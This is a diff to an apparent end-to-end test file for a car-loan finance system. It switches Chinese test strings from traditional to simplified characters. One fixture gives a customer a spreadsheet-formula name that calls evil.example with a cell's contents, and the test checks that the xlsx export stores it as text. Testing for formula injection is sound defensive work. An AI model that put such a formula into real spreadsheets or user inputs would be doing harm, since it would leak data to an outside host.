@@ -15,7 +15,7 @@ from tests.e2e.conftest import assert_problem, create_employee
 from tests.helpers import wait_until
 
 TODAY = clock.today().isoformat()
-EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"點我")'
+EVIL_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
 
 
 @pytest.fixture(scope="module")
@@ -23,7 +23,7 @@ def disbursed(staff, product):
     """A loan to a customer with a formula for a name, taken from application to disbursement."""
     officer = staff["officer"]
     customer = register(officer, name=EVIL_NAME)[0].json()
-    car = officer.post("/api/v1/vehicles", json={"vin": new_vin(), "brand": "大眾", "model": "帕薩特", "year": 2023,
+    car = officer.post("/api/v1/vehicles", json={"vin": new_vin(), "brand": "大众", "model": "帕萨特", "year": 2023,
                                                  "owner_customer_id": customer["id"]}).json()
     valuation = staff["appraiser_a"].post(f"/api/v1/vehicles/{car['id']}/valuations",
                                           json={"appraised_value": "200000.00", "method": "market"}).json()
@@ -75,14 +75,14 @@ def test_ledgers_and_reports_show_it_and_export_to_xlsx_with_formulas_as_text(st
                                                                          "page_size": 100}).json()
     [row] = [r for r in ledger["items"] if r["contract_no"] == disbursed["contract_no"]]
     assert (row["principal"], row["fees"], row["net_amount"]) == ("150000.00", "3000.00", "147000.00")
-    assert row["customer_name"] == EVIL_NAME and ["contract_no", "合同編號"] in ledger["columns"]
+    assert row["customer_name"] == EVIL_NAME and ["contract_no", "合同编号"] in ledger["columns"]
 
     export = clerk.get("/api/v1/finance/ledgers/disbursements", params={"from": TODAY, "format": "xlsx"})
     assert export.status_code == 200 and export.headers["Content-Type"].startswith(
         "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
     sheet = load_workbook(io.BytesIO(export.content)).active
     rows = list(sheet.iter_rows())
-    assert [cell.value for cell in rows[0]][:3] == ["放款日期", "合同編號", "客戶名稱"]
+    assert [cell.value for cell in rows[0]][:3] == ["放款日期", "合同编号", "客户名称"]
     [mine] = [r for r in rows[1:] if r[1].value == disbursed["contract_no"]]
     assert mine[2].value == EVIL_NAME and mine[2].data_type == "s"  # text, never a formula
     assert mine[3].value == 150000 and mine[3].data_type == "n"  # amounts are numbers the sheet can sum
@@ -110,8 +110,8 @@ def test_a_correction_is_a_reversing_entry_and_provisions_run_once_per_date(staf
     clerk, checker = staff["clerk"], staff["checker"]
     [entry] = posted(clerk, disbursed["id"])
     assert_problem(clerk.post(f"/api/v1/finance/journal-entries/{entry['id']}/reverse",
-                              json={"reason": "錄入錯誤"}), 403)
-    reversal = checker.post(f"/api/v1/finance/journal-entries/{entry['id']}/reverse", json={"reason": "錄入錯誤"})
+                              json={"reason": "录入错误"}), 403)
+    reversal = checker.post(f"/api/v1/finance/journal-entries/{entry['id']}/reverse", json={"reason": "录入错误"})
     assert reversal.status_code == 201, reversal.text
     assert {(l["account"], l["debit"], l["credit"]) for l in reversal.json()["lines"]} == {
         ("1301", "0.00", "150000.00"), ("1002", "147000.00", "0.00"), ("6021", "3000.00", "0.00")}
